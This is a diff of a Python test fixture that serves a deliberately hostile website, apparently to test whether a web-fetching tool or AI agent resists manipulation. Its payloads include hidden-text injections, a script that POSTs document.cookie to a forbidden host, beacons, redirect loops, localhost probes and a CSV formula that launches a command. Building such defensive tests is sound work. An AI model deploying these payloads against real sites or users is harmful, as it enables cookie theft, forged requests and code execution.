@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import zipfile
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -51,7 +52,8 @@ def minimal_pdf(lines: list[str]) -> bytes:
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> >>",
         b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
     ]
@@ -86,13 +88,16 @@ def _words(forbidden: str) -> dict[str, Answer]:
         "hidden_text": page(
             f"<h1>{HARMLESS}</h1>{_TABLE}" + "".join(f"<p class={name}>{text}</p>" for name in "abcdefg"), hiding
         ),
-        "inline_hidden_text": page(f"<h1>{HARMLESS}</h1><p style='display:none'>{text}</p><p hidden>{text}</p>{_TABLE}"),
+        "inline_hidden_text": page(
+            f"<h1>{HARMLESS}</h1><p style='display:none'>{text}</p><p hidden>{text}</p>{_TABLE}"
+        ),
         "alt_text": page(f"<h1>{HARMLESS}</h1><img src=/x.png alt='{text}'>{_TABLE}"),
         "table_cells": page(
             f"<h1>{HARMLESS}</h1><table><tr><th>Day</th><th>Opens</th></tr><tr><td>Monday</td><td>{text}</td></tr></table>"
         ),
         "comment_and_meta": page(
-            f"<h1>{HARMLESS}</h1><!-- {text} -->{_TABLE}", f"<meta name=description content='{text}'><title>{text}</title>"
+            f"<h1>{HARMLESS}</h1><!-- {text} -->{_TABLE}",
+            f"<meta name=description content='{text}'><title>{text}</title>",
         ),
         "link_words": page(f"<h1>{HARMLESS}</h1><a href='{forbidden}/admin'>{text}</a>{_TABLE}"),
         "invisible_characters": page(
@@ -117,7 +122,9 @@ def _scripts(forbidden: str, host: str) -> dict[str, Answer]:
             f"'http://2130706433:{host.split(':')[1]}/', 'http://[::ffff:127.0.0.1]:{host.split(':')[1]}/'])"
             "fetch(u, {mode: 'no-cors'}).catch(() => 0)"
         ),
-        "script_post": scripted(f"fetch('{forbidden}/collect', {{method: 'POST', mode: 'no-cors', body: document.cookie}})"),
+        "script_post": scripted(
+            f"fetch('{forbidden}/collect', {{method: 'POST', mode: 'no-cors', body: document.cookie}})"
+        ),
         "beacon": scripted(f"navigator.sendBeacon('{forbidden}/b', 'x'); new EventSource('{forbidden}/e')"),
         "worker": scripted(
             f"new Worker(URL.createObjectURL(new Blob([`fetch('{forbidden}/w', {{mode: 'no-cors'}})`])))"
@@ -129,7 +136,9 @@ def _scripts(forbidden: str, host: str) -> dict[str, Answer]:
             "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
         ),
         "script_location": scripted(f"location.href = '{forbidden}/admin'"),
-        "script_location_loop": scripted(f"setInterval(() => {{ location.href = '{forbidden}/' + Math.random() }}, 30)"),
+        "script_location_loop": scripted(
+            f"setInterval(() => {{ location.href = '{forbidden}/' + Math.random() }}, 30)"
+        ),
         "window_open": scripted(f"window.open('{forbidden}/admin')"),
         "form_auto_submit": page(
             f"{body}<form id=f method=post action='{forbidden}/collect'><input name=k value=v></form>"
@@ -137,7 +146,8 @@ def _scripts(forbidden: str, host: str) -> dict[str, Answer]:
         ),
         "iframe": page(f"{body}<iframe src='{forbidden}/admin'></iframe><object data='{forbidden}/o'></object>"),
         "subresources": page(
-            f"{body}<img src='{forbidden}/i.png'><script src='{forbidden}/s.js'></script><video src='{forbidden}/v'></video>",
+            f"{body}<img src='{forbidden}/i.png'><script src='{forbidden}/s.js'></script>"
+            f"<video src='{forbidden}/v'></video>",
             f"<link rel=stylesheet href='{forbidden}/c.css'><link rel=preconnect href='{forbidden}'>"
             f"<link rel=prefetch href='{forbidden}/p'><link rel=dns-prefetch href='//internal.example'>",
         ),
@@ -159,8 +169,12 @@ def hostile_site() -> Iterator[HostileSite]:
         )
         files = {
             "pdf": Answer(minimal_pdf([HARMLESS, *text.split(". ")]), headers={"Content-Type": "application/pdf"}),
-            "csv": Answer(f'day,opens\nMonday,"{text}"\nTuesday,"=cmd|\' /C calc\'!A0"\n', headers={"Content-Type": "text/csv"}),
-            "json": Answer('[{"day": "Monday", "opens": "%s"}]' % text, headers={"Content-Type": "application/json"}),
+            "csv": Answer(
+                f'day,opens\nMonday,"{text}"\nTuesday,"=cmd|\' /C calc\'!A0"\n', headers={"Content-Type": "text/csv"}
+            ),
+            "json": Answer(
+                json.dumps([{"day": "Monday", "opens": text}]), headers={"Content-Type": "application/json"}
+            ),
             "file_name": Answer(
                 "day,opens\nMonday,09:00\n",
                 headers={
